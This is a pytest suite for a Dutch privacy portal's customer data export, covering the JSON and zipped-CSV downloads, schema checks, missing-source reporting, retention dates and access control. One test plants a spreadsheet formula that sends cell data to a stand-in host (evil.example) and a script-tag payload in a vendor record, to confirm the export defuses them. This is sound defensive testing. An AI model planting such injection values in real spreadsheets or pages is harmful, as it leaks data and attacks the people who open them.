"""The one-click export against the vendor simulators, with the demo customer signed in."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

import httpx
import jsonschema
import orjson
import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from portal.export import recent_exports
from portal.extensions import db
from portal.gathering import SourceOutcome
from portal.models import AuditEvent, Customer, DataExport
from simulators import SimulatorGroup

from ..snapshots import hold_snapshot
from .conftest import SANNE, download, sign_in

NEAR_MISSES = ("sanne.de.vries@example.nl", "Groningen", "sanne.devries+shop@example.nl")
FILENAME = re.compile(
    r'attachment; filename="voorbeeld-it-diensten-(gegevens|data)-\d{4}-\d{2}-\d{2}\.'
)


def _schema(client: FlaskClient) -> dict[str, Any]:
    response = client.get("/export/schema/v2.json")
    assert response.status_code == 200
    schema: dict[str, Any] = orjson.loads(response.data)
    jsonschema.Draft202012Validator.check_schema(schema)
    return schema


def test_the_schema_s_formats_are_checked_not_skipped() -> None:
    """jsonschema skips a format it has no checker for: the export's moments and links are
    checked (the test extras install the checkers)."""
    checker = jsonschema.Draft202012Validator.FORMAT_CHECKER
    assert {"date", "date-time", "uri", "email"} <= set(checker.checkers)
    assert not checker.conforms("2026-12-06 04:00", "date-time")
    assert not checker.conforms("geen adres", "uri")


def _validate(client: FlaskClient, data: dict[str, Any]) -> None:
    validator = jsonschema.Draft202012Validator(
        _schema(client), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    errors = sorted(validator.iter_errors(data), key=str)
    assert not errors, "\n".join(str(e)[:500] for e in errors[:3])


def _json(client: FlaskClient) -> dict[str, Any]:
    response = download(client, "json")
    assert response.mimetype == "application/json"
    assert response.is_streamed  # written as it is sent, never held whole
    assert FILENAME.match(response.headers["Content-Disposition"])
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Pragma"] == "no-cache"
    data: dict[str, Any] = orjson.loads(response.data)
    _validate(client, data)
    return data


def _zip(client: FlaskClient) -> zipfile.ZipFile:
    response = download(client, "csv")
    assert response.mimetype == "application/zip"
    assert response.is_streamed
    assert FILENAME.match(response.headers["Content-Disposition"])
    assert response.headers["Content-Disposition"].endswith('.zip"')
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Pragma"] == "no-cache"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert archive.testzip() is None
    return archive


def _csv(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    raw = archive.read(name)
    assert raw.startswith(b"\xef\xbb\xbf"), f"{name} has no BOM"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_the_json_export_holds_everything_of_the_demo_customer_and_validates(
    sanne: FlaskClient, simulators: SimulatorGroup
) -> None:
    data = _json(sanne)
    assert data["format"] == "privacy-portal-export" and data["version"] == 2
    assert data["schema"].endswith("/export/schema/v2.json")
    assert data["controller"]["name"] == "Voorbeeld IT Diensten B.V."
    assert data["subject"]["identifiers"] == [{"kind": "email", "value": SANNE}]
    assert data["complete"] is True
    assert {s["key"]: s["status"] for s in data["sources"]} == dict.fromkeys(
        ("webshop", "invoicing", "helpdesk", "customer-service", "payments", "workshop"),
        "complete",
    )
    records = data["records"]
    assert sum(s["records"] for s in data["sources"]) == len(records)

    # every order and invoice the simulators hold for her
    shop = simulators["woocommerce"].app
    her_orders = {str(o["id"]) for o in shop.orders.values() if o["billing"]["email"] == SANNE}
    exported_orders = {
        r["record_id"] for r in records if r["source"] == "webshop" and r["record_type"] == "order"
    }
    assert her_orders and her_orders <= exported_orders
    books = simulators["moneybird"].app
    contact = next(c for c in books.contacts.values() if c["email"] == SANNE)
    her_invoices = {str(i["id"]) for i in books.invoices if i["contact_id"] == contact["id"]}
    invoices = [r for r in records if r["record_type"] == "invoice"]
    assert {r["record_id"] for r in invoices} == her_invoices
    # the Mollie payment of her guest order, found through the order
    guest = next(r for r in records if r["record_id"] == "tr_Gk2Mw8PxLs")
    assert guest["source"] == "payments" and guest["record_type"] == "payment"
    assert guest["parent"] == {"source": "webshop", "record_type": "order", "record_id": "1977"}

    # the 2019 invoice: 7 years after the end of fiscal year 2019
    old = next(r for r in invoices if r["dates"]["invoice_date"].startswith("2019"))
    assert old["due_dates"]["invoices"] == "2026-12-31"
    assert old["categories"]["invoice_id"] == "invoices"

    # what the invoices category means is said once, for all its records
    categories = {c["key"]: c for c in data["categories"]}
    invoices_category = categories["invoices"]
    assert invoices_category["purposes"][0]["legal_basis"] == "legal_obligation"
    assert invoices_category["purposes"][0]["legal_basis_article"] == "6(1)(c)"
    assert invoices_category["retention"]["period"] == "P7Y"
    assert invoices_category["retention"]["starts"] == "end_of_fiscal_year"
    assert "7 jaar" in invoices_category["retention"]["text"]
    names = {r["key"]: r["name"] for r in invoices_category["recipients"]}
    assert names["moneybird"] == "Moneybird B.V."
    assert names["tax-authority"] == "Belastingdienst"  # a string, in the export's language
    for record in records:
        assert record["matched"]["value"] == SANNE
        assert record["categories"], record["record_id"]
        # every field in a category that the file describes, and a due date per category
        assert set(record["categories"]) == set(record["fields"])
        assert set(record["categories"].values()) == set(record["due_dates"]) <= set(categories)

    text = orjson.dumps(data).decode()
    for other in NEAR_MISSES:
        assert other not in text


def test_the_zip_has_one_csv_per_record_type_a_readme_and_a_safe_index(
    sanne: FlaskClient,
) -> None:
    archive = _zip(sanne)
    names = archive.namelist()
    assert names[:2] == ["README.txt", "metadata.json"] and names[-1] == "index.html"
    metadata = orjson.loads(archive.read("metadata.json"))
    files = {f["name"]: f for f in metadata["files"]}
    assert set(files) == {n for n in names if n.endswith(".csv")}
    assert "webshop-order.csv" in files and "invoicing-invoice.csv" in files
    total = 0
    for name, described in files.items():
        rows = _csv(archive, name)
        header = archive.read(name).decode("utf-8-sig").splitlines()[0].split(";")
        assert header == described["columns"]
        assert header[:4] == ["record_source", "record_system", "record_type", "record_id"]
        assert len(rows) == described["rows"]
        assert {(r["record_source"], r["record_type"]) for r in rows} == {
            (described["source"], described["record_type"])
        }
        total += len(rows)
    assert total == sum(s["records"] for s in metadata["sources"])
    invoices = _csv(archive, "invoicing-invoice.csv")
    assert any("invoices: 2026-12-31" in r["due_dates"] for r in invoices)

    readme = archive.read("README.txt").decode("utf-8-sig")
    assert "Uw gegevens bij Voorbeeld IT Diensten B.V." in readme
    assert "Elk systeem gaf volledig antwoord." in readme
    assert "webshop-order.csv" in readme
    customer_columns = readme.partition("webshop-customer.csv: ")[2].partition(".csv: ")[0]
    assert "    first_name: Voornaam\r\n" in customer_columns  # the policy's label

    page = archive.read("index.html").decode()
    assert "<script" not in page.lower()
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page, re.I)
    assert "@import" not in page and "url(" not in page
    assert "Facturen en belastingadministratie" in page  # purposes
    assert "Een wettelijke verplichting (AVG art. 6 lid 1 sub c)" in page  # legal basis
    assert "Moneybird B.V." in page  # recipients
    assert "31-12-2026" in page  # the 2019 invoice's due date
    assert "Autoriteit Persoonsgegevens" in page  # the right to complain
    assert "Boekhouding (Moneybird)" in page  # source
    # the names inside nested values in words too (an order line's article number)
    assert "Artikelnummer: CK-SET-2" in page and "sku:" not in page
    # a contents list to every category with data, the countries and safeguards in words,
    # where to write and where the portal is; "Other data" only when there is some
    contents = page[page.index('<nav aria-labelledby="toc-title">') : page.index("</nav>")]
    assert '<a href="#cat-invoices">' in contents and '<a href="#rights">' in contents
    for anchor in re.findall(r'href="#([^"]+)"', contents):
        assert f'id="{anchor}"' in page, anchor
    assert "Verenigde Staten). EU-VS Data Privacy Framework" in page and ", US)" not in page
    assert (
        '<a href="mailto:privacy@voorbeeld-it.example.nl">privacy@voorbeeld-it.example.nl</a>'
        in page
    )
    assert "Het privacyportaal: http://127.0.0.1:5000/mijn-gegevens/" in page  # base_url
    assert ('id="cat-other"' in page) == ('href="#cat-other"' in contents)
    for other in NEAR_MISSES:
        assert other not in page and other not in readme


def test_vendor_values_cannot_become_formulas_or_markup(
    app: Flask, sanne: FlaskClient, simulators: SimulatorGroup
) -> None:
    shop = simulators["woocommerce"]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    original = shop.app.customers[101]["first_name"]
    response = httpx.put(
        shop.url("/customers/101"),
        params=shop.credentials,
        json={"first_name": formula, "last_name": "<script>alert(1)</script>de Vries"},
    )
    assert response.status_code == 200, response.text
    try:
        archive = _zip(sanne)
    finally:
        httpx.put(
            shop.url("/customers/101"),
            params=shop.credentials,
            json={"first_name": original, "last_name": "de Vries"},
        )
    rows = _csv(archive, "webshop-customer.csv")
    assert rows[0]["first_name"] == "'" + formula
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in _csv(archive, name):
                for value in row.values():
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    page = archive.read("index.html").decode()
    assert "<script" not in page.lower()  # the tag is removed (nh3), the text kept
    assert "de Vries" in page


def test_an_export_while_a_source_is_down_says_so_inside_both_files(
    app: Flask, client: FlaskClient, simulators: SimulatorGroup
) -> None:
    simulators["zammad"].set_fault("down")
    sign_in(app, client)
    data = _json(client)
    helpdesk = next(s for s in data["sources"] if s["key"] == "helpdesk")
    assert helpdesk["status"] == "failed" and helpdesk["error_kind"] == "down"
    assert "niet bereikbaar" in helpdesk["reason"]
    assert data["complete"] is False
    assert not [r for r in data["records"] if r["source"] == "helpdesk"]

    archive = _zip(client)
    readme = archive.read("README.txt").decode("utf-8-sig")
    assert "DEZE KOPIE IS NIET VOLLEDIG" in readme
    assert "(helpdesk): Mislukt, " in readme and "niet bereikbaar" in readme
    assert "niet bereikbaar" in readme
    page = archive.read("index.html").decode()
    assert "Deze kopie is niet volledig" in page and "niet bereikbaar" in page
    metadata = orjson.loads(archive.read("metadata.json"))
    assert {s["key"]: s["status"] for s in metadata["sources"]}["helpdesk"] == "failed"
    with app.app_context():
        rows = db.session.scalars(sa.select(DataExport)).all()
        assert [r.complete for r in rows] == [False, False]
    # The customer's list of downloads says which system did not answer, reached from "my data".
    overview = client.get("/mijn-gegevens/").get_data(as_text=True)
    assert 'href="/export/"' in overview
    listed = " ".join(re.sub(r"<[^>]+>", " ", client.get("/export/").get_data(True)).split())
    assert "Storingsmeldingen (Zammad): antwoordde niet" in listed
    assert "Boekhouding (Moneybird): volledig" in listed


def test_an_export_of_a_partial_answer_names_what_is_missing_inside_both_files(
    app: Flask, client: FlaskClient
) -> None:
    """A system that answered, but not with everything (its order notes failed): both files
    say which part is missing and why, next to the records it did give."""
    order = {
        "source": "webshop", "system": "woocommerce", "record_type": "order",
        "record_id": "2110", "link": None, "fields": {"number": "2110"},
        "categories": {"number": "orders"}, "dates": {"created": "2024-05-01T10:00:00+00:00"},
        "matched": {"kind": "email", "value": SANNE}, "parent": None,
    }  # fmt: skip
    partial = SourceOutcome(
        "webshop", "woocommerce", "partial", None, None, (("order_notes", "down"),), 1, 0.1
    )
    hold_snapshot(app, sign_in(app, client), [order], [partial])
    data = _json(client)
    webshop = next(s for s in data["sources"] if s["key"] == "webshop")
    assert webshop["status"] == "partial" and data["complete"] is False
    assert webshop["missing"] == [{"what": "order_notes", "kind": "down"}]
    assert "Een deel van de gegevens ontbreekt: notities bij bestellingen" in webshop["reason"]
    assert [r["record_id"] for r in data["records"]] == ["2110"]

    archive = _zip(client)
    readme = archive.read("README.txt").decode("utf-8-sig")
    assert (
        "DEZE KOPIE IS NIET VOLLEDIG" in readme and "(webshop): Gedeeltelijk, 1 gegeven" in readme
    )
    assert "notities bij bestellingen" in readme
    page = archive.read("index.html").decode()
    assert "Deze kopie is niet volledig" in page and "notities bij bestellingen" in page
    assert 'class="status-partial">Gedeeltelijk<' in page
    metadata = orjson.loads(archive.read("metadata.json"))
    assert metadata["complete"] is False
    assert [r["record_id"] for r in _csv(archive, "webshop-order.csv")] == ["2110"]


def test_dates_at_the_calendar_s_edge_show_no_due_date_and_break_nothing(
    app: Flask, client: FlaskClient
) -> None:
    """A "never" date (9999-12-31) or a moment a time zone cannot reach leaves the due date
    unknown; the pages and both files still show the record."""

    def record(record_type: str, record_id: str, fields: dict[str, Any], **dates: str) -> Any:
        return {
            "source": "webshop", "system": "woocommerce", "record_type": record_type,
            "record_id": record_id, "link": None, "fields": fields,
            "categories": dict.fromkeys(fields, "orders"), "dates": dates,
            "matched": {"kind": "email", "value": SANNE}, "parent": None,
        }  # fmt: skip

    records = [
        record("order", "9001", {"number": "9001"}, created="9999-12-31"),
        record("order", "9002", {"number": "9002"}, created="9999-12-31T23:59:59+00:00"),
        record("order", "9003", {"number": "9003"}, created="0001-01-01T00:00:00+01:00"),
        record("order", "9004", {"number": "9004"}, created="2024-05-01T10:00:00+00:00"),
    ]
    hold_snapshot(app, sign_in(app, client), records)
    for path in ("/mijn-gegevens/", "/mijn-gegevens/orders"):
        page = client.get(path)
        assert page.status_code == 200, path
        assert "Bestelling 9001" in page.get_data(as_text=True)
    data = _json(client)
    dues = {r["record_id"]: r["due_dates"]["orders"] for r in data["records"]}
    assert dues == {"9001": None, "9002": None, "9003": None, "9004": "2026-05-01"}
    rows = _csv(_zip(client), "webshop-order.csv")
    assert [r["record_id"] for r in rows] == ["9001", "9002", "9003", "9004"]


def test_every_file_and_column_has_a_name_of_its_own_and_the_readme_speaks_dutch(
    app: Flask, client: FlaskClient
) -> None:
    """Record types that differ only in case get a file each; a field named like a date
    column or a prefixed field gets a column of its own; README.txt names each system's state
    in words, with singular and plural; "Other data" says what the statement does not say."""
    fields = {"number": "7", "date_created": "gisteren", "link": "a", "field_link": "b"}
    records = [
        {
            "source": "webshop",
            "system": "woocommerce",
            "record_type": record_type,
            "record_id": record_id,
            "link": None,
            "fields": fields,
            "categories": {"number": "orders", "date_created": "x", "link": "x", "field_link": "x"},
            "dates": {"created": "2024-05-01T10:00:00+00:00"},
            "matched": {"kind": "email", "value": SANNE},
            "parent": None,
        }  # fmt: skip
        for record_type, record_id in (("order", "1"), ("Order", "2"), ("order", "3"))
    ]
    outcomes = [
        SourceOutcome("webshop", "woocommerce", "complete", None, None, (), 3, 0.1),
        SourceOutcome("helpdesk", "zammad", "failed", "down", None, (), 1, 0.1),
    ]
    hold_snapshot(app, sign_in(app, client), records, outcomes)
    archive = _zip(client)
    names = archive.namelist()
    assert len(names) == len(set(names))
    assert {"webshop-order.csv", "webshop-order-2.csv"} <= set(names)
    metadata = orjson.loads(archive.read("metadata.json"))
    for name, ids in (("webshop-order.csv", ["1", "3"]), ("webshop-order-2.csv", ["2"])):
        text = archive.read(name).decode("utf-8-sig")
        header = next(csv.reader(io.StringIO(text), delimiter=";"))
        assert len(header) == len(set(header)), header
        assert {"date_created", "date_created_2", "field_link", "field_link_2"} <= set(header)
        assert next(f for f in metadata["files"] if f["name"] == name)["columns"] == header
        rows = _csv(archive, name)
        assert [r["record_id"] for r in rows] == ids
        assert {r["date_created"] for r in rows} == {"gisteren"}  # the field, not the date
        assert {r["date_created_2"] for r in rows} == {"2024-05-01T10:00:00+00:00"}

    readme = archive.read("README.txt").decode("utf-8-sig")
    assert "Webwinkel (webshop): Volledig, 3 gegevens" in readme
    assert "(helpdesk): Mislukt, 1 gegeven" in readme
    assert "Bestelling uit Webwinkel, 2 regels." in readme
    assert "uit Webwinkel, 1 regel." in readme
    # each file's field columns in words where the name alone does not say it
    assert "Bestelling uit Webwinkel, 2 regels.\r\n    number: Nummer\r\n" in readme
    assert "link:" not in readme and "date_created:" not in readme
    for english in (": complete", ": failed", "[down]", " records", " rows."):
        assert english not in readme, english

    page = archive.read("index.html").decode()
    other = page[page.index('id="cat-other"') :]
    other = other[: other.index("</dl>")]
    assert "Deze gegevens staan niet in onze privacyverklaring." in other
    assert "Niet vermeld." in other and "Niemand buiten ons bedrijf" not in other
    assert "<dt>Waar ze vandaan komen</dt>\n<dd>Webwinkel</dd>" in other


def test_a_due_date_that_has_passed_says_the_customer_may_ask_for_erasure(
    app: Flask, client: FlaskClient
) -> None:
    """An order kept two years after it was placed, placed five years ago, is past its day:
    the pages and index.html say so instead of announcing a day already gone."""
    from datetime import timedelta

    from ..clock import firm_today

    today = firm_today()

    def order(record_id: str, created: str) -> dict[str, Any]:
        return {
            "source": "webshop", "system": "woocommerce", "record_type": "order",
            "record_id": record_id, "link": None, "fields": {"number": record_id},
            "categories": {"number": "orders"}, "dates": {"created": created},
            "matched": {"kind": "email", "value": SANNE}, "parent": None,
        }  # fmt: skip

    old = (today - timedelta(days=5 * 366)).isoformat()
    hold_snapshot(app, sign_in(app, client), [order("1", old), order("2", today.isoformat())])
    note = "de bewaartermijn is verstreken; u kunt ons vragen het te wissen"
    page = " ".join(
        re.sub(r"<[^>]+>", " ", client.get("/mijn-gegevens/orders").get_data(True)).split()
    )
    assert page.count(note) == 1
    record = client.get("/mijn-gegevens/orders/gegeven?bron=webshop&soort=order&id=1")
    assert note in record.get_data(as_text=True)
    record = client.get("/mijn-gegevens/orders/gegeven?bron=webshop&soort=order&id=2")
    assert note not in record.get_data(as_text=True)
    index = _zip(client).read("index.html").decode()
    assert index.count(note) == 1


def test_each_export_is_recorded_without_personal_data_and_audited(
    app: Flask, sanne: FlaskClient
) -> None:
    download(sanne, "json")
    download(sanne, "csv")
    with app.app_context():
        customer = db.session.scalars(sa.select(Customer)).one()
        exports = recent_exports(customer)
        assert [e.format for e in exports] == ["csv", "json"]
        first = exports[-1]
        assert first.complete and first.record_count > 100 and first.format_version == 2
        assert {s["key"]: s["status"] for s in first.sources}["invoicing"] == "complete"
        stored = str([(e.sources, e.record_count, e.format) for e in exports]).lower()
        assert "sanne" not in stored and "oudegracht" not in stored
        events = db.session.scalars(
            sa.select(AuditEvent).where(AuditEvent.action == "export.downloaded")
        ).all()
        assert sorted(int(e.subject_id or 0) for e in events) == sorted(e.id for e in exports)
        assert all(e.details["export_id"] == int(e.subject_id or 0) for e in events)
        assert "sanne" not in str([e.details for e in events]).lower()
    page = sanne.get("/export/").get_data(as_text=True)
    assert "Uw downloads" in page and "CSV (ZIP)" in page and "JSON" in page


@pytest.mark.parametrize("version", [1, 2])
def test_the_schema_is_public_and_cacheable(client: FlaskClient, version: int) -> None:
    """Version 2 is written now; version 1 stays served for the files written in it."""
    response = client.get(f"/export/schema/v{version}.json")
    assert response.status_code == 200
    assert response.mimetype == "application/schema+json"
    assert "public" in response.headers["Cache-Control"]
    schema = orjson.loads(response.data)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"].endswith(f"/export/schema/v{version}.json")
    assert schema["properties"]["version"] == {"const": version}
    jsonschema.Draft202012Validator.check_schema(schema)
    again = client.get(
        f"/export/schema/v{version}.json", headers={"If-None-Match": response.headers["ETag"]}
    )
    assert again.status_code == 304
    assert client.get("/export/schema/v3.json").status_code == 404


@pytest.mark.parametrize("path", ["/export/", "/export/json", "/export/csv"])
def test_anonymous_visitors_are_sent_to_sign_in(client: FlaskClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/inloggen")
    assert client.post(path).status_code in (400, 405)  # no form, no session: nothing


def test_a_download_needs_the_form_and_a_link_shows_the_page(sanne: FlaskClient) -> None:
    assert sanne.post("/export/json").status_code == 400  # no CSRF token
    assert sanne.post("/export/csv", data={"csrf_token": "forged"}).status_code == 400
    response = sanne.get("/export/json")
    assert response.status_code == 303 and response.headers["Location"].endswith("/export/")
    page = sanne.get("/export/")
    assert page.headers["Cache-Control"] == "no-store"
    assert 'action="/export/json"' in page.get_data(as_text=True)


def test_each_customer_gets_only_their_own_data(app: Flask, client: FlaskClient) -> None:
    sign_in(app, client, "someone.else@example.nl")
    data = _json(client)
    assert data["records"] == []
    assert data["subject"]["identifiers"] == [{"kind": "email", "value": "someone.else@example.nl"}]
    assert SANNE not in orjson.dumps(data).decode()


def test_a_phone_number_reads_as_everywhere_in_the_copy_and_stays_e164_in_the_data(
    app: Flask, sanne: FlaskClient
) -> None:
    """The offline page names the identifiers the customer was recognised by as the portal
    shows them ("+31 6 12345678"); the JSON, which programs read, keeps the stored E.164."""
    from portal.auth.services import add_identifier, approve_identifier

    with app.test_request_context():
        customer = db.session.scalars(sa.select(Customer)).one()
        phone = add_identifier(customer, "phone", "06-12345678", "invoice_number", "F1", "nl")
        approve_identifier(phone, staff_id=0)
        db.session.commit()
    index = _zip(sanne).read("index.html").decode()
    recognised = index[index.index("Wij herkenden u aan") :].split("</dd>", 1)[0]
    assert "+31 6 12345678" in recognised and "+31612345678" not in recognised
    identifiers = _json(sanne)["subject"]["identifiers"]
    assert {"kind": "phone", "value": "+31612345678"} in identifiers


def test_english_customers_get_english_files(app: Flask, sanne: FlaskClient) -> None:
    sanne.set_cookie("portal_lang", "en")
    data = _json(sanne)
    assert data["language"] == "en"
    invoices = next(c for c in data["categories"] if c["key"] == "invoices")
    names = {r["key"]: r["name"] for r in invoices["recipients"]}
    assert names["tax-authority"] == "Belastingdienst (Dutch Tax Administration)"
    assert names["moneybird"] == "Moneybird B.V."
    archive = _zip(sanne)
    assert "Your data at Voorbeeld IT Diensten B.V." in archive.read("README.txt").decode(
        "utf-8-sig"
    )
    index = archive.read("index.html").decode()
    assert "Article number: CK-SET-2" in index
    # the guest order's Mollie payment says which order it was found through
    payment = index[index.index("Payments (Mollie): Payment tr_Gk2Mw8PxLs</caption>") :]
    payment = payment[: payment.index("</table>")]
    assert '<th scope="row">Found through</th><td>Web shop: Order 1977</td>' in payment
    response = download(sanne, "json")
    assert "-data-" in response.headers["Content-Disposition"]


def test_overview_offers_both_downloads(sanne: FlaskClient) -> None:
    html = sanne.get("/mijn-gegevens/").get_data(as_text=True)
    assert 'action="/export/json"' in html
    assert 'action="/export/csv"' in html


def test_the_format_link_is_the_schema_the_downloads_are_written_in(sanne: FlaskClient) -> None:
    data = orjson.loads(download(sanne, "json").data)
    for page in ("/mijn-gegevens/", "/export/"):
        html = sanne.get(page).get_data(as_text=True)
        links = re.findall(r'href="([^"]*/export/schema/v\d+\.json)"', html)
        assert links and all(data["schema"].endswith(link) for link in links), (page, links)


def test_the_schema_stays_cacheable_for_a_signed_in_customer(sanne: FlaskClient) -> None:
    # The export page first: the test's session cookie lacks Flask-Login's browser mark, so
    # its first answer rewrites the cookie, and an answer that sets a cookie is never cached.
    assert sanne.get("/export/").headers["Cache-Control"] == "no-store"
    response = sanne.get("/export/schema/v2.json")
    assert response.headers.getlist("Set-Cookie") == []
    assert "public" in response.headers["Cache-Control"]
    assert "no-store" not in response.headers["Cache-Control"]
